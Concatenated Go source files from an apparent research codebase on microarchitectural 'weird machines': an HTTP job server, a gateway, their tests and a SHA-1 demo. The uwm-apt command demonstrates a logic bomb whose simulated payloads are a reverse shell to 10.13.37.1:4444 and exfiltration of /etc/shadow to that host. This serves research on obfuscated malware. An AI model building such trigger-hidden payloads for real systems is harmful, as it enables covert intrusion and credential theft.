			t.Fatalf("exit code %d after SIGTERM, want 0", code)
		}
	case <-time.After(60 * time.Second):
		t.Fatal("server did not drain after SIGTERM")
	}

	// The journal holds the replay substrate: observations and the fire.
	j, err := os.ReadFile(evlogFile)
	if err != nil {
		t.Fatalf("event journal not written: %v", err)
	}
	if !strings.Contains(string(j), `"event":"slo.observe"`) ||
		!strings.Contains(string(j), `"event":"alert.fire"`) {
		t.Fatalf("journal missing observe/fire records:\n%s", j)
	}
}

// TestServeBadFlags keeps the usage exit code stable.
func TestServeBadFlags(t *testing.T) {
	if code := realMain([]string{"-no-such-flag"}, make(chan os.Signal)); code != 2 {
		t.Errorf("exit code %d for bad flags, want 2", code)
	}
	bad := filepath.Join(t.TempDir(), "bad.json")
	if err := os.WriteFile(bad, []byte(`{"slos": "nope"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	if code := realMain([]string{"-slo-config", bad}, make(chan os.Signal)); code != 2 {
		t.Errorf("exit code %d for bad -slo-config, want 2", code)
	}
}
