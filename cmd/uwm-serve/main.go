// Command uwm-serve exposes the concurrent weird-machine execution
// engine as a JSON-over-HTTP job service.
//
// Usage:
//
//	uwm-serve                                  # 2 workers on localhost:8080
//	uwm-serve -workers 4 -queue 128            # bigger pool, deeper queue
//	uwm-serve -attempts 3 -vote 2              # vote-of-3 redundancy per job
//	uwm-serve -addr 127.0.0.1:0 -addr-file a   # ephemeral port, written to a
//	uwm-serve -metrics -trace-out run.jsonl    # observability surfaces
//	uwm-serve -flight-head-rate 0.1 \
//	          -postmortem-dir /tmp/uwm-pm      # flight recorder tuning
//
// Submit work with plain HTTP:
//
//	curl -X POST localhost:8080/v1/jobs?wait=1 \
//	     -d '{"type":"gate","params":{"gate":"TSX_XOR"}}'
//
// Per-job flight recordings resolve by job id, X-Request-Id or W3C
// traceparent trace-id at GET /v1/jobs/{id}/trace (?format=jsonl or
// chrome); GET /v1/traces lists keep decisions and /v1/traces/stream
// tails them over SSE.
//
// SLOs (availability, latency, gate accuracy) evaluate over every
// terminal job: GET /v1/slo reports error budgets, GET /v1/alerts the
// multi-window burn-rate alerts (SSE at /v1/alerts/stream), and
// -alert-webhook pushes fire/resolve transitions outward. -slo-config
// replaces the built-in objectives with a JSON definition file, and
// -evlog appends the structured event journal that `slo.Replay` can
// re-evaluate offline into the identical alert timeline.
//
// SIGINT/SIGTERM drains gracefully: intake stops, queued and in-flight
// jobs finish (bounded by -drain-timeout), then the process exits 0.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"uwm/internal/engine"
	"uwm/internal/engine/httpapi"
	"uwm/internal/evlog"
	"uwm/internal/flightrec"
	"uwm/internal/metrics"
	"uwm/internal/obs"
	"uwm/internal/slo"
)

func main() {
	sigs := make(chan os.Signal, 1)
	signal.Notify(sigs, os.Interrupt, syscall.SIGTERM)
	os.Exit(realMain(os.Args[1:], sigs))
}

// realMain returns main's exit code so tests can drive the full
// lifecycle — ephemeral port, live requests, signal-triggered drain —
// in-process: 0 ok, 1 runtime error, 2 usage error.
func realMain(args []string, sigs <-chan os.Signal) int {
	fs := flag.NewFlagSet("uwm-serve", flag.ContinueOnError)
	var (
		addr     = fs.String("addr", "localhost:8080", "HTTP listen address (host:0 picks an ephemeral port)")
		addrFile = fs.String("addr-file", "", "write the bound address to this file once listening")
		workers  = fs.Int("workers", 2, "worker pool size; each worker pins one weird machine")
		queue    = fs.Int("queue", 64, "submission queue depth; a full queue answers 429")
		seed     = fs.Uint64("seed", 2021, "root seed per-job sub-seeds derive from")
		train    = fs.Int("train", 4, "BP gate training iterations per activation")
		attempts = fs.Int("attempts", 1, "default redundant executions per job")
		vote     = fs.Int("vote", 1, "default agreement count a result needs to win early")
		timeout  = fs.Duration("timeout", 60*time.Second, "default per-job execution deadline")
		drain    = fs.Duration("drain-timeout", 30*time.Second, "how long shutdown waits for queued and in-flight jobs")

		flight         = fs.Bool("flight", true, "record per-job traces in the flight recorder (GET /v1/jobs/{id}/trace)")
		flightKeep     = fs.Int("flight-keep", 64, "healthy kept traces retained (LRU)")
		flightErrors   = fs.Int("flight-errors", 16, "error traces pinned against eviction by healthy traffic")
		flightHeadRate = fs.Float64("flight-head-rate", 1, "probability a healthy job's trace is kept (errors, disagreements, retries, drift and slow jobs are always kept)")
		flightEvents   = fs.Int("flight-events", 4096, "per-job trace buffer bound; past it the oldest events are dropped")
		postmortemDir  = fs.String("postmortem-dir", "", "dump kept traces to this directory on drain or worker panic")

		sloOn     = fs.Bool("slo", true, "evaluate SLOs and burn-rate alerts (GET /v1/slo, /v1/alerts)")
		sloConfig = fs.String("slo-config", "", "JSON file of SLO definitions; empty selects the built-in defaults")
		webhook   = fs.String("alert-webhook", "", "POST alert fire/resolve transitions to this URL (with retry and backoff)")
		evlogOut  = fs.String("evlog", "", "append structured event records (JSONL) to this file; the in-memory ring behind GET /v1/logs is always on")
	)
	var obsCfg obs.Config
	obsCfg.AddFlags(fs)
	version := obs.AddVersionFlag(fs)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *version {
		obs.PrintVersion(os.Stdout, "uwm-serve")
		return 0
	}

	sess, err := obs.Start(obsCfg)
	if err != nil {
		fmt.Fprintln(os.Stderr, "uwm-serve:", err)
		return 1
	}
	defer sess.Close()

	// The service always keeps a registry so /metrics works even
	// without -metrics (which additionally prints the exposition at
	// exit, via the session's registry).
	reg := sess.Registry
	if reg == nil {
		reg = metrics.NewRegistry()
		obs.RegisterBuildInfo(reg)
	}

	var rec *flightrec.Recorder
	if *flight {
		rec = flightrec.New(flightrec.Config{
			MaxKept:           *flightKeep,
			ErrorRing:         *flightErrors,
			HeadRate:          *flightHeadRate,
			MaxEventsPerTrace: *flightEvents,
			PostmortemDir:     *postmortemDir,
			Metrics:           reg,
		})
	}

	// The event log always runs with its in-memory ring (GET /v1/logs);
	// -evlog additionally appends the JSONL journal an offline
	// `slo.Replay` can re-evaluate.
	logCfg := evlog.Config{Metrics: reg}
	var evlogFile *os.File
	if *evlogOut != "" {
		evlogFile, err = os.OpenFile(*evlogOut, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
		if err != nil {
			fmt.Fprintln(os.Stderr, "uwm-serve:", err)
			return 1
		}
		defer evlogFile.Close()
		logCfg.W = evlogFile
	}
	log := evlog.New(logCfg)

	var sloEng *slo.Engine
	if *sloOn {
		defs := slo.DefaultSLOs()
		if *sloConfig != "" {
			raw, err := os.ReadFile(*sloConfig)
			if err != nil {
				fmt.Fprintln(os.Stderr, "uwm-serve:", err)
				return 1
			}
			if defs, err = slo.ParseDefinitions(raw); err != nil {
				fmt.Fprintln(os.Stderr, "uwm-serve: -slo-config:", err)
				return 2
			}
		}
		cfg := slo.Config{SLOs: defs, Log: log, Metrics: reg}
		if rec != nil {
			// Guarded: assigning a nil *Recorder would make the interface
			// non-nil and panic inside the engine's Pin calls.
			cfg.Pinner = rec
		}
		if sloEng, err = slo.New(cfg); err != nil {
			fmt.Fprintln(os.Stderr, "uwm-serve: slo:", err)
			return 2
		}
	}

	eng, err := engine.New(engine.Config{
		Workers:         *workers,
		QueueDepth:      *queue,
		Seed:            *seed,
		TrainIterations: *train,
		Retry:           engine.RetryPolicy{Attempts: *attempts, Vote: *vote},
		DefaultTimeout:  *timeout,
		Metrics:         reg,
		Sink:            sess.Sink,
		FlightRec:       rec,
		SLO:             sloEng,
		Log:             log,
	})
	if err != nil {
		fmt.Fprintln(os.Stderr, "uwm-serve:", err)
		return 1
	}

	var notifier *slo.Notifier
	if *webhook != "" {
		if sloEng == nil {
			fmt.Fprintln(os.Stderr, "uwm-serve: -alert-webhook requires -slo")
			return 2
		}
		notifier = slo.NewNotifier(sloEng, slo.NotifierConfig{URL: *webhook, Log: log})
	}

	mux := http.NewServeMux()
	mux.Handle("/", httpapi.New(eng))
	mux.HandleFunc("GET /metrics", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4")
		reg.WriteText(w)
	})

	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		fmt.Fprintln(os.Stderr, "uwm-serve:", err)
		return 1
	}
	if *addrFile != "" {
		if err := os.WriteFile(*addrFile, []byte(ln.Addr().String()), 0o644); err != nil {
			fmt.Fprintln(os.Stderr, "uwm-serve:", err)
			ln.Close()
			return 1
		}
	}
	srv := &http.Server{Handler: mux}
	serveErr := make(chan error, 1)
	go func() { serveErr <- srv.Serve(ln) }()
	fmt.Fprintf(os.Stderr, "uwm-serve: %d workers (seed %d), queue %d, listening on http://%s/\n",
		eng.Workers(), eng.Seed(), *queue, ln.Addr())

	select {
	case sig := <-sigs:
		fmt.Fprintf(os.Stderr, "uwm-serve: %v: draining (timeout %s)\n", sig, *drain)
	case err := <-serveErr:
		fmt.Fprintln(os.Stderr, "uwm-serve:", err)
		eng.Close(context.Background())
		return 1
	}

	// Drain order matters: stop intake at the edge first so no new
	// jobs arrive, then let the engine finish what it holds.
	ctx, cancel := context.WithTimeout(context.Background(), *drain)
	defer cancel()
	code := 0
	if err := srv.Shutdown(ctx); err != nil {
		srv.Close()
		fmt.Fprintln(os.Stderr, "uwm-serve: http shutdown:", err)
		code = 1
	}
	if err := eng.Close(ctx); err != nil {
		fmt.Fprintln(os.Stderr, "uwm-serve: engine drain:", err)
		code = 1
	}
	// The engine is drained, so no further observations arrive: flush
	// the notifier's in-flight deliveries, then stop alert evaluation.
	if notifier != nil {
		notifier.Close()
	}
	sloEng.Close()
	if err := <-serveErr; err != nil && !errors.Is(err, http.ErrServerClosed) {
		fmt.Fprintln(os.Stderr, "uwm-serve:", err)
		code = 1
	}
	// Post-mortem: with the engine drained every capture is decided, so
	// the dump is the complete record of what this process kept.
	if rec != nil && *postmortemDir != "" {
		n, err := rec.Dump(*postmortemDir)
		if err != nil {
			fmt.Fprintln(os.Stderr, "uwm-serve: post-mortem dump:", err)
			code = 1
		} else {
			fmt.Fprintf(os.Stderr, "uwm-serve: wrote %d flight-record(s) to %s\n", n, *postmortemDir)
		}
	}
	return code
}
