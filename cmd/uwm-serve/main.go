// Command uwm-serve exposes the concurrent weird-machine execution
// engine as a JSON-over-HTTP job service.
//
// Usage:
//
//	uwm-serve                                  # 2 workers on localhost:8080
//	uwm-serve -workers 4 -queue 128            # bigger pool, deeper queue
//	uwm-serve -attempts 3 -vote 2              # vote-of-3 redundancy per job
//	uwm-serve -addr 127.0.0.1:0 -addr-file a   # ephemeral port, written to a
//	uwm-serve -metrics -trace-out run.jsonl    # observability surfaces
//	uwm-serve -flight-head-rate 0.1 \
//	          -postmortem-dir /tmp/uwm-pm      # flight recorder tuning
//
// Submit work with plain HTTP:
//
//	curl -X POST localhost:8080/v1/jobs?wait=1 \
//	     -d '{"type":"gate","params":{"gate":"TSX_XOR"}}'
//
// Per-job flight recordings resolve by job id, X-Request-Id or W3C
// traceparent trace-id at GET /v1/jobs/{id}/trace (?format=jsonl or
// chrome); GET /v1/traces lists keep decisions and /v1/traces/stream
// tails them over SSE.
//
// SIGINT/SIGTERM drains gracefully: intake stops, queued and in-flight
// jobs finish (bounded by -drain-timeout), then the process exits 0.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"uwm/internal/engine"
	"uwm/internal/engine/httpapi"
	"uwm/internal/flightrec"
	"uwm/internal/metrics"
	"uwm/internal/obs"
)

func main() {
	sigs := make(chan os.Signal, 1)
	signal.Notify(sigs, os.Interrupt, syscall.SIGTERM)
	os.Exit(realMain(os.Args[1:], sigs))
}

// realMain returns main's exit code so tests can drive the full
// lifecycle — ephemeral port, live requests, signal-triggered drain —
// in-process: 0 ok, 1 runtime error, 2 usage error.
func realMain(args []string, sigs <-chan os.Signal) int {
	fs := flag.NewFlagSet("uwm-serve", flag.ContinueOnError)
	var (
		addr     = fs.String("addr", "localhost:8080", "HTTP listen address (host:0 picks an ephemeral port)")
		addrFile = fs.String("addr-file", "", "write the bound address to this file once listening")
		workers  = fs.Int("workers", 2, "worker pool size; each worker pins one weird machine")
		queue    = fs.Int("queue", 64, "submission queue depth; a full queue answers 429")
		seed     = fs.Uint64("seed", 2021, "root seed per-job sub-seeds derive from")
		train    = fs.Int("train", 4, "BP gate training iterations per activation")
		attempts = fs.Int("attempts", 1, "default redundant executions per job")
		vote     = fs.Int("vote", 1, "default agreement count a result needs to win early")
		timeout  = fs.Duration("timeout", 60*time.Second, "default per-job execution deadline")
		drain    = fs.Duration("drain-timeout", 30*time.Second, "how long shutdown waits for queued and in-flight jobs")

		flight         = fs.Bool("flight", true, "record per-job traces in the flight recorder (GET /v1/jobs/{id}/trace)")
		flightKeep     = fs.Int("flight-keep", 64, "healthy kept traces retained (LRU)")
		flightErrors   = fs.Int("flight-errors", 16, "error traces pinned against eviction by healthy traffic")
		flightHeadRate = fs.Float64("flight-head-rate", 1, "probability a healthy job's trace is kept (errors, disagreements, retries, drift and slow jobs are always kept)")
		flightEvents   = fs.Int("flight-events", 4096, "per-job trace buffer bound; past it the oldest events are dropped")
		postmortemDir  = fs.String("postmortem-dir", "", "dump kept traces to this directory on drain or worker panic")
	)
	var obsCfg obs.Config
	obsCfg.AddFlags(fs)
	if err := fs.Parse(args); err != nil {
		return 2
	}

	sess, err := obs.Start(obsCfg)
	if err != nil {
		fmt.Fprintln(os.Stderr, "uwm-serve:", err)
		return 1
	}
	defer sess.Close()

	// The service always keeps a registry so /metrics works even
	// without -metrics (which additionally prints the exposition at
	// exit, via the session's registry).
	reg := sess.Registry
	if reg == nil {
		reg = metrics.NewRegistry()
		obs.RegisterBuildInfo(reg)
	}

	var rec *flightrec.Recorder
	if *flight {
		rec = flightrec.New(flightrec.Config{
			MaxKept:           *flightKeep,
			ErrorRing:         *flightErrors,
			HeadRate:          *flightHeadRate,
			MaxEventsPerTrace: *flightEvents,
			PostmortemDir:     *postmortemDir,
			Metrics:           reg,
		})
	}

	eng, err := engine.New(engine.Config{
		Workers:         *workers,
		QueueDepth:      *queue,
		Seed:            *seed,
		TrainIterations: *train,
		Retry:           engine.RetryPolicy{Attempts: *attempts, Vote: *vote},
		DefaultTimeout:  *timeout,
		Metrics:         reg,
		Sink:            sess.Sink,
		FlightRec:       rec,
	})
	if err != nil {
		fmt.Fprintln(os.Stderr, "uwm-serve:", err)
		return 1
	}

	mux := http.NewServeMux()
	mux.Handle("/", httpapi.New(eng))
	mux.HandleFunc("GET /metrics", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4")
		reg.WriteText(w)
	})

	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		fmt.Fprintln(os.Stderr, "uwm-serve:", err)
		return 1
	}
	if *addrFile != "" {
		if err := os.WriteFile(*addrFile, []byte(ln.Addr().String()), 0o644); err != nil {
			fmt.Fprintln(os.Stderr, "uwm-serve:", err)
			ln.Close()
			return 1
		}
	}
	srv := &http.Server{Handler: mux}
	serveErr := make(chan error, 1)
	go func() { serveErr <- srv.Serve(ln) }()
	fmt.Fprintf(os.Stderr, "uwm-serve: %d workers (seed %d), queue %d, listening on http://%s/\n",
		eng.Workers(), eng.Seed(), *queue, ln.Addr())

	select {
	case sig := <-sigs:
		fmt.Fprintf(os.Stderr, "uwm-serve: %v: draining (timeout %s)\n", sig, *drain)
	case err := <-serveErr:
		fmt.Fprintln(os.Stderr, "uwm-serve:", err)
		eng.Close(context.Background())
		return 1
	}

	// Drain order matters: stop intake at the edge first so no new
	// jobs arrive, then let the engine finish what it holds.
	ctx, cancel := context.WithTimeout(context.Background(), *drain)
	defer cancel()
	code := 0
	if err := srv.Shutdown(ctx); err != nil {
		srv.Close()
		fmt.Fprintln(os.Stderr, "uwm-serve: http shutdown:", err)
		code = 1
	}
	if err := eng.Close(ctx); err != nil {
		fmt.Fprintln(os.Stderr, "uwm-serve: engine drain:", err)
		code = 1
	}
	if err := <-serveErr; err != nil && !errors.Is(err, http.ErrServerClosed) {
		fmt.Fprintln(os.Stderr, "uwm-serve:", err)
		code = 1
	}
	// Post-mortem: with the engine drained every capture is decided, so
	// the dump is the complete record of what this process kept.
	if rec != nil && *postmortemDir != "" {
		n, err := rec.Dump(*postmortemDir)
		if err != nil {
			fmt.Fprintln(os.Stderr, "uwm-serve: post-mortem dump:", err)
			code = 1
		} else {
			fmt.Fprintf(os.Stderr, "uwm-serve: wrote %d flight-record(s) to %s\n", n, *postmortemDir)
		}
	}
	return code
}
