// Command uwm-sha1 hashes its input on the microarchitectural weird
// machine: every boolean operation and every addition of the SHA-1
// compression function is computed by weird gates (branch-predictor
// mistraining + instruction-cache races), not by the simulated CPU's
// ALU. The digest is verified against a reference implementation.
//
// Usage:
//
//	echo -n "abc" | uwm-sha1
//	uwm-sha1 -msg "hello world" -s 3 -k 2 -n 3 -stats
//	uwm-sha1 -msg "abc" -metrics -trace-out sha1.jsonl
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"time"

	"uwm/internal/core"
	"uwm/internal/noise"
	"uwm/internal/obs"
	"uwm/internal/sha1wm"
	"uwm/internal/skelly"
)

func main() {
	os.Exit(run())
}

// run returns main's exit code so the observability session closes
// (metrics exposition, trace flush) on every path.
func run() int {
	var (
		msg     = flag.String("msg", "", "message to hash (default: stdin)")
		s       = flag.Int("s", 1, "timing samples per median (paper: 10)")
		k       = flag.Int("k", 1, "votes required (paper: 3)")
		n       = flag.Int("n", 1, "median decisions per vote (paper: 5)")
		seed    = flag.Uint64("seed", 1, "simulation seed")
		noisy   = flag.Bool("noisy", false, "run under paper noise instead of a quiet machine")
		stats   = flag.Bool("stats", false, "print gate counters and visibility statistics")
		verbose = flag.Bool("v", false, "print progress and timing")
		obsCfg  obs.Config
	)
	obsCfg.AddFlags(flag.CommandLine)
	version := obs.AddVersionFlag(flag.CommandLine)
	flag.Parse()
	if *version {
		obs.PrintVersion(os.Stdout, "uwm-sha1")
		return 0
	}

	fail := func(format string, args ...any) int {
		fmt.Fprintf(os.Stderr, "uwm-sha1: "+format+"\n", args...)
		return 1
	}

	data := []byte(*msg)
	if *msg == "" {
		in, err := io.ReadAll(os.Stdin)
		if err != nil {
			return fail("reading stdin: %v", err)
		}
		data = in
	}

	sess, err := obs.Start(obsCfg)
	if err != nil {
		return fail("%v", err)
	}
	defer sess.Close()

	opts := core.Options{Seed: *seed, TrainIterations: 3, Metrics: sess.Registry, Sink: sess.Sink}
	if *noisy {
		opts.Noise = noise.PaperIsolated()
	}
	m, err := core.NewMachine(opts)
	if err != nil {
		return fail("%v", err)
	}
	sk, err := skelly.New(m, skelly.Config{S: *s, K: *k, N: *n, Verify: true})
	if err != nil {
		return fail("%v", err)
	}
	h := sha1wm.New(sk)

	start := time.Now()
	digest, err := h.Sum(data)
	if err != nil {
		return fail("%v", err)
	}
	elapsed := time.Since(start)

	fmt.Printf("%x\n", digest)

	ref := sha1wm.Sum(data)
	if digest != ref {
		return fail("MISMATCH against reference %x — gate errors escaped redundancy; raise -s/-n", ref)
	}
	if *verbose {
		fmt.Fprintf(os.Stderr, "verified against reference in %v (%d bytes, s=%d k=%d n=%d)\n",
			elapsed.Round(time.Millisecond), len(data), *s, *k, *n)
	}
	if *stats {
		st := h.Stats()
		fmt.Fprintf(os.Stderr, "gate results: %d circuit-internal, %d architecturally visible (%.1f%%)\n",
			st.GateOps-st.VisibleValues, st.VisibleValues, st.VisibleFraction()*100)
		for _, g := range []string{"AND", "OR", "NAND", "AND_AND_OR"} {
			c := sk.Counters(g)
			fmt.Fprintf(os.Stderr, "%-12s medians %d/%d  votes %d/%d\n",
				g, c.MedianCorrect, c.MedianOps, c.VoteCorrect, c.VoteOps)
		}
	}
	return 0
}
