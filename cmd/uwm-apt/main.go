// Command uwm-apt demonstrates the weird obfuscation system of §5.1:
// a logic bomb whose trigger decoding runs on a TSX weird XOR circuit.
// It installs a simulated payload, prints the secret trigger, and then
// either drives the ping loop itself (-demo) or listens on a UDP socket
// for trigger candidates (-listen), standing in for the paper's
// "ping localhost -p $XOR_SECRET" delivery.
//
// Usage:
//
//	uwm-apt -demo                         # self-contained demo
//	uwm-apt -demo -payload exfil          # exfiltrate the fake shadow file
//	uwm-apt -demo -metrics                # ping/decode counters at exit
//	uwm-apt -listen 127.0.0.1:9999        # wait for UDP trigger datagrams
package main

import (
	"flag"
	"fmt"
	"os"

	"uwm/internal/core"
	"uwm/internal/obs"
	"uwm/internal/otp"
	"uwm/internal/wmapt"
)

func main() {
	os.Exit(run())
}

// run returns main's exit code so the observability session closes
// (metrics exposition, trace flush) on every path.
func run() int {
	var (
		demo    = flag.Bool("demo", false, "run the full trigger loop locally")
		listen  = flag.String("listen", "", "listen for 20-byte UDP trigger datagrams on this address")
		payload = flag.String("payload", "shell", `payload: "shell" or "exfil"`)
		seed    = flag.Uint64("seed", 7, "simulation seed")
		maxPing = flag.Int("max-pings", 500, "demo: give up after this many pings")
		obsCfg  obs.Config
	)
	obsCfg.AddFlags(flag.CommandLine)
	version := obs.AddVersionFlag(flag.CommandLine)
	flag.Parse()
	if *version {
		obs.PrintVersion(os.Stdout, "uwm-apt")
		return 0
	}

	if !*demo && *listen == "" {
		flag.Usage()
		return 2
	}

	fail := func(format string, args ...any) int {
		fmt.Fprintf(os.Stderr, "uwm-apt: "+format+"\n", args...)
		return 1
	}

	var p wmapt.Payload
	switch *payload {
	case "shell":
		p = wmapt.ReverseShell{Addr: "10.13.37.1", Port: 4444}
	case "exfil":
		p = wmapt.ExfilShadow{Path: "/etc/shadow", Dest: "10.13.37.1:8080"}
	default:
		fmt.Fprintf(os.Stderr, "uwm-apt: unknown payload %q\n", *payload)
		return 2
	}

	sess, err := obs.Start(obsCfg)
	if err != nil {
		return fail("%v", err)
	}
	defer sess.Close()

	mo := wmapt.MachineOptions(*seed)
	mo.Metrics = sess.Registry
	mo.Sink = sess.Sink
	m, err := core.NewMachine(mo)
	if err != nil {
		return fail("%v", err)
	}

	env := wmapt.NewEnv()
	apt, err := wmapt.New(env, wmapt.Options{Seed: *seed, Machine: m})
	if err != nil {
		return fail("%v", err)
	}
	pad, err := apt.Install(p)
	if err != nil {
		return fail("%v", err)
	}
	fmt.Printf("installed %s payload; trigger (ping -p pattern): %s\n", p.Name(), pad.PingPattern())

	if *listen != "" {
		l, err := wmapt.ListenUDP(*listen, apt)
		if err != nil {
			return fail("%v", err)
		}
		defer l.Close()
		fmt.Printf("listening on %s; send the 20 raw trigger bytes as a UDP datagram\n", l.Addr())
		res := <-l.Results()
		report(res, env)
		return 0
	}

	// Demo: deliver a few wrong triggers (silence), then the real one
	// until the weird XOR decodes it.
	wrong := pad
	wrong[5] ^= 0x20
	for i := 0; i < 3; i++ {
		res, err := apt.HandlePing(wrong)
		if err != nil {
			return fail("%v", err)
		}
		if res != nil {
			fmt.Println("UNEXPECTED: fired on a wrong trigger")
			return 1
		}
		fmt.Printf("ping %d (wrong trigger): silent, environment untouched\n", apt.Pings())
	}
	for apt.Pings() < *maxPing {
		res, err := apt.HandlePing(pad)
		if err != nil {
			return fail("%v", err)
		}
		if res != nil {
			report(*res, env)
			return 0
		}
		fmt.Printf("ping %d (correct trigger): weird XOR picked up gate errors, still silent\n", apt.Pings())
	}
	return fail("trigger did not decode within %d pings", *maxPing)
}

func report(res wmapt.Result, env *wmapt.Env) {
	fmt.Printf("\npayload fired after %d pings (%d weird XOR transforms of 160 bits each)\n",
		res.PingsReceived, res.Attempts)
	for _, e := range res.Events {
		fmt.Println("  payload:", e)
	}
	fmt.Println("environment:", env.Snapshot())
	// Re-derive the trigger encoding helper so the example shows both
	// directions of the ping-pattern round trip.
	if _, err := otp.ParsePingPattern(otp.Pad{}.PingPattern()); err != nil {
		fmt.Fprintln(os.Stderr, "uwm-apt: ping pattern round-trip failed:", err)
	}
}
