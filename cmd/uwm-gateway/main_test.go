package main

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"uwm/internal/engine"
	"uwm/internal/engine/httpapi"
	"uwm/internal/flightrec"
)

// newBackend starts a real in-process uwm-serve surface for the
// gateway under test to front.
func newBackend(t *testing.T) *httptest.Server {
	t.Helper()
	fr := flightrec.New(flightrec.Config{HeadRate: 1})
	e, err := engine.New(engine.Config{Workers: 1, FlightRec: fr})
	if err != nil {
		t.Fatalf("engine.New: %v", err)
	}
	srv := httptest.NewServer(httpapi.New(e))
	t.Cleanup(func() {
		srv.Close()
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		e.Close(ctx)
	})
	return srv
}

// TestGatewayLifecycle drives the binary in-process: boot against two
// live backends, serve a duplicate seeded submission through the cache,
// report the cluster view, then drain cleanly on SIGTERM with exit 0.
func TestGatewayLifecycle(t *testing.T) {
	b1 := newBackend(t)
	b2 := newBackend(t)
	addrFile := filepath.Join(t.TempDir(), "addr")
	sigs := make(chan os.Signal, 1)
	exit := make(chan int, 1)
	go func() {
		exit <- realMain([]string{
			"-addr", "127.0.0.1:0",
			"-addr-file", addrFile,
			"-backends", b1.URL + "," + b2.URL,
			"-probe-interval", "100ms",
		}, sigs)
	}()

	var addr string
	deadline := time.Now().Add(60 * time.Second)
	for addr == "" {
		if time.Now().After(deadline) {
			t.Fatal("gateway never wrote its address file")
		}
		if b, err := os.ReadFile(addrFile); err == nil && len(b) > 0 {
			addr = string(b)
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	base := "http://" + addr

	resp, err := http.Get(base + "/healthz")
	if err != nil {
		t.Fatalf("healthz: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("healthz status %d", resp.StatusCode)
	}

	// The same seeded job twice: the repeat must be a byte-identical
	// cache hit.
	job := `{"type":"gate","seed":11,"params":{"gate":"TSX_XOR","random":4}}`
	var bodies [2][]byte
	for i := range bodies {
		resp, err := http.Post(base+"/v1/jobs?wait=1", "application/json", strings.NewReader(job))
		if err != nil {
			t.Fatalf("submit %d: %v", i, err)
		}
		bodies[i], err = io.ReadAll(resp.Body)
		resp.Body.Close()
		if err != nil || resp.StatusCode != http.StatusOK {
			t.Fatalf("submit %d: status %d err %v", i, resp.StatusCode, err)
		}
		if want := map[int]string{0: "miss", 1: "hit"}[i]; resp.Header.Get("X-Cache") != want {
			t.Fatalf("submit %d X-Cache = %q, want %q", i, resp.Header.Get("X-Cache"), want)
		}
	}
	if string(bodies[0]) != string(bodies[1]) {
		t.Fatal("cached repeat is not byte-identical")
	}

	resp, err = http.Get(base + "/v1/cluster")
	if err != nil {
		t.Fatalf("/v1/cluster: %v", err)
	}
	var st struct {
		Backends []struct {
			State string `json:"state"`
		} `json:"backends"`
		Cache struct {
			Hits uint64 `json:"hits"`
		} `json:"cache"`
	}
	err = json.NewDecoder(resp.Body).Decode(&st)
	resp.Body.Close()
	if err != nil || len(st.Backends) != 2 {
		t.Fatalf("/v1/cluster: %v (%+v)", err, st)
	}
	if st.Cache.Hits != 1 {
		t.Fatalf("cluster view reports %d cache hits, want 1", st.Cache.Hits)
	}

	resp, err = http.Get(base + "/metrics")
	if err != nil {
		t.Fatalf("/metrics: %v", err)
	}
	expo, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("/metrics status %d err %v", resp.StatusCode, err)
	}
	for _, want := range []string{"uwm_build_info{", "uwm_gateway_cache_hits_total 1", "uwm_gateway_backend_up{"} {
		if !strings.Contains(string(expo), want) {
			t.Errorf("/metrics missing %s", want)
		}
	}

	sigs <- syscall.SIGTERM
	select {
	case code := <-exit:
		if code != 0 {
			t.Fatalf("exit code %d after SIGTERM, want 0", code)
		}
	case <-time.After(60 * time.Second):
		t.Fatal("gateway did not drain after SIGTERM")
	}
	if _, err := http.Get(base + "/healthz"); err == nil {
		t.Error("gateway still answering after drain")
	}
}

// TestGatewayBadFlags keeps the usage exit code stable.
func TestGatewayBadFlags(t *testing.T) {
	if code := realMain([]string{"-no-such-flag"}, make(chan os.Signal)); code != 2 {
		t.Errorf("exit code %d for bad flags, want 2", code)
	}
	if code := realMain(nil, make(chan os.Signal)); code != 2 {
		t.Errorf("exit code %d without -backends, want 2", code)
	}
}
