// Command uwm-gateway fronts N uwm-serve backends with one
// health-aware, result-caching, request-hedging gateway.
//
// Usage:
//
//	uwm-serve -addr 127.0.0.1:8081 &
//	uwm-serve -addr 127.0.0.1:8082 &
//	uwm-gateway -backends 127.0.0.1:8081,127.0.0.1:8082
//
// Clients talk to the gateway exactly as they would to a single
// uwm-serve: POST /v1/jobs (sync with ?wait=1 or async), poll
// GET /v1/jobs/{id}, fetch flight recordings at
// GET /v1/jobs/{id}/trace — the gateway remembers which backend owns
// which job and passes the request through, so `uwm-trace -from`
// pointed at the gateway works unchanged.
//
// On top of the pass-through surface the gateway adds:
//
//   - health-aware routing: an active prober walks each backend's
//     /healthz and /v1/slo; draining (503) and shedding (429) backends
//     are routed around, and weighted rendezvous hashing on (job type,
//     seed) keeps a job family on the backend calibrated for it;
//   - hedged sync submissions: after the job type's observed p95, a
//     second attempt races on another backend under a ~10% budget;
//   - a content-addressed result cache: deterministic (type, payload,
//     seed) jobs are served from an LRU on repeat, and concurrent
//     duplicates collapse onto one backend submission;
//   - GET /v1/cluster: per-backend health, weights, in-flight counts,
//     hedge accounting and cache hit/miss/collapse stats (the uwm-top
//     backends panel polls it).
//
// SIGINT/SIGTERM drains gracefully: /healthz flips to 503 draining,
// in-flight proxied requests finish (bounded by -drain-timeout), then
// the process exits 0.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
